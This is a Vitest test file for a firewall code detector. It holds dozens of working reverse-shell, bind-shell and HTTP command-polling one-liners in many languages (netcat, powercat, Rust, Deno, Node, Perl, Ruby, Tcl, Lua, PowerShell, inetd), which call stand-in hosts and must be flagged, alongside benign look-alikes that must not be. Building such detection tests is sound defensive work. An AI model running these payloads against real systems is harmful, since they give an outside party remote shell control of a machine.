/**
 * Reverse and bind shells read as a network stream wired to a shell, in languages and spellings
 * beyond the common one-liners: netcat-like clients by the flag that names the program they serve,
 * sockets of Rust, Dart, Deno, Crystal, Lua and Tcl with their process launchers, server sockets
 * that accept, daemons that serve a shell, and a command loop over HTTP. Port probes through
 * `/dev/tcp` and ordinary clients of the same libraries stay allowed. Every case was written here.
 */
import { describe } from 'vitest';
import { codeDetector } from '../../../src/firewall/detectors/code.js';
import { decisionTable, detectorTable } from './_scan.js';

const SERVED: readonly string[] = [
  // Netcat builds for Windows, powercat and rustcat, each with the flag that names the program served.
  'ncat.exe 203.0.113.50 443 -e powershell.exe',
  'nc64.exe -e cmd.exe 203.0.113.50 8080',
  'powercat -c 203.0.113.50 -p 53 -ep',
  'rcat connect --shell /bin/zsh 203.0.113.50 9443',
  // A named pipe made with mknod carries the shell's output back to netcat.
  'mknod /tmp/.p p; ksh -i < /tmp/.p 2>&1 | nc 198.51.100.4 9000 > /tmp/.p',
  // Sockets and launchers of other languages.
  'conn = Socket.tcp(Socket::Family::INET6); conn.connect("gw.example.net", 7001); loop { line, _ = conn.receive; conn << Process.new(line, shell: true, output: Process::Redirect::Pipe).output.gets_to_end }',
  'let s = TcpStream::connect("203.0.113.50:6000")?; let fd = s.as_raw_fd(); Command::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(fd) }).stdout(unsafe { Stdio::from_raw_fd(fd) }).spawn()?;',
  'const c = await Deno.connect({ hostname: "203.0.113.50", port: 7000 }); const p = new Deno.Command("sh", { stdin: "piped", stdout: "piped" }).spawn(); c.readable.pipeTo(p.stdin); p.stdout.pipeTo(c.writable);',
  "node -e \"c=require('net').connect(7,'203.0.113.5');c.pipe(require('child_process').spawn('sh').stdin)\"",
  'perl -e \'use IO::Socket;$c=IO::Socket::INET->new("203.0.113.5:7");open STDIN,"<&",$c;open STDOUT,">&",$c;exec "/bin/sh"\'',
  'val s = Socket("203.0.113.5", 7); val p = ProcessBuilder("sh").redirectErrorStream(true).start()',
  "echo 'set s [socket 198.51.100.4 9000];while 1 { gets $s c; puts $s [exec sh -c $c]; flush $s }' | tclsh",
  // A server socket that accepts, then rewires the process to the peer.
  'ruby -e \'require "socket"; srv = TCPServer.new(7000); c = srv.accept; $stdin.reopen(c); $stdout.reopen(c); exec "/bin/bash"\'',
  // Daemons whose login program is a shell.
  'busybox telnetd -l /bin/sh -p 9999',
  "printf '8081 stream tcp nowait nobody /bin/bash bash -i\\n' > /tmp/i.conf && inetd /tmp/i.conf",
  // Commands fetched into a script in a loop, run, and their output posted back.
  'cmd /v:on /c "for /l %n in (0) do (curl -s http://198.51.100.4/next > !tmp!\\job.cmd & call !tmp!\\job.cmd > !tmp!\\r.txt 2>&1 & curl -s -X POST --data-binary @!tmp!\\r.txt http://198.51.100.4/r & timeout 2)"',
];

const ORDINARY: readonly string[] = [
  // Port probes: the connection is opened and closed, nothing reads it.
  "timeout 1 bash -c '</dev/tcp/10.0.0.5/22' && echo ssh open",
  '(echo > /dev/tcp/127.0.0.1/8080) 2>/dev/null && echo listening',
  'until </dev/tcp/postgres/5432; do sleep 1; done',
  // The same programs as clients.
  'powercat -c 10.0.0.7 -p 443',
  'rcat connect 127.0.0.1 6379',
  'ncat.exe --ssl mail.example.org 993',
  'telnetd -p 2323 -l /bin/login',
  'ftp stream tcp nowait root /usr/sbin/tcpd in.ftpd',
  "Socket.connect('localhost', 6379).then((s) { s.write('PING\\r\\n'); s.listen((d) => print(String.fromCharCodes(d))); });",
  'let mut s = TcpStream::connect("127.0.0.1:8080")?; s.write_all(b"GET / HTTP/1.0\\r\\n\\r\\n")?;',
  'let status = Command::new("cargo").arg("build").status()?;',
  'server = TCPServer.new(8080); loop { c = server.accept; c.puts "HTTP/1.1 200 OK\\r\\n\\r\\nok"; c.close }',
  'sock = TCPSocket.new("example.org", 80); sock << "HEAD / HTTP/1.0\\r\\n\\r\\n"; puts sock.gets',
  "node -e \"const c=require('net').connect(5432,'localhost',()=>{console.log('up');c.end()})\"",
  'perl -MIO::Socket::INET -e \'$s=IO::Socket::INET->new("status.example.com:80");print $s "GET / HTTP/1.0\\r\\n\\r\\n";print <$s>\'',
  'val s = Socket("localhost", 6379); s.getOutputStream().write("PING\\r\\n".toByteArray())',
  'const conn = await Deno.connect({ hostname: "localhost", port: 5432 }); conn.close();',
  'local http = require("socket.http"); print(http.request("http://example.com"))',
  '$l = [Net.Sockets.TcpListener]8080; $l.Start(); $c = $l.AcceptTcpClient(); $c.Close(); $l.Stop()',
  'mknod /dev/loop8 b 7 8',
  // Fetches in loops, and a script fetched and shown rather than run.
  'for /l %i in (1,1,3) do curl -s -o report%i.csv https://reports.example.com/day%i.csv',
  'curl -o setup.bat https://downloads.example.com/setup.bat && type setup.bat',
  'while true; do curl -fsS http://localhost:8080/health -o /dev/null && break; sleep 2; done',
  'dart run bin/server.dart --port 8080',
];

decisionTable('network streams wired to a shell', SERVED, ORDINARY);

describe('the code detector names the wiring where other readings only saw a sink', () => {
  detectorTable(
    codeDetector,
    [
      [
        "Socket.connect('203.0.113.50', 7777).then((s) { s.listen((d) { Process.start('/bin/sh', ['-c', String.fromCharCodes(d)]).then((p) => p.stdout.pipe(s)); }); });",
        'code.reverse-shell',
        'critical',
      ],
      [
        'lua -e \'local c=require("socket").connect("203.0.113.50",7000) while true do local l=c:receive() local f=io.popen(l) c:send(f:read("*a")) end\'',
        'code.reverse-shell',
        'critical',
      ],
      [
        '$l=[Net.Sockets.TcpListener]7777;$l.Start();$c=$l.AcceptTcpClient();$s=$c.GetStream();$r=New-Object IO.StreamReader($s);$w=New-Object IO.StreamWriter($s);while($x=$r.ReadLine()){$w.WriteLine((Invoke-Expression $x|Out-String));$w.Flush()}',
        'code.reverse-shell',
        'critical',
      ],
      [
        'while ($true) { iwr http://198.51.100.4/t -OutFile t.ps1; powershell -ep bypass -file t.ps1; sleep 3 }',
        'code.polling-shell',
        'critical',
      ],
    ],
    [
      ['while ($true) { iwr http://198.51.100.4/t -OutFile t.ps1; Get-Content t.ps1; sleep 3 }', 'code.polling-shell'],
      ["timeout 1 bash -c '</dev/tcp/10.0.0.5/22'", null],
    ],
    ['code.reverse-shell', 'code.polling-shell'],
  );
});
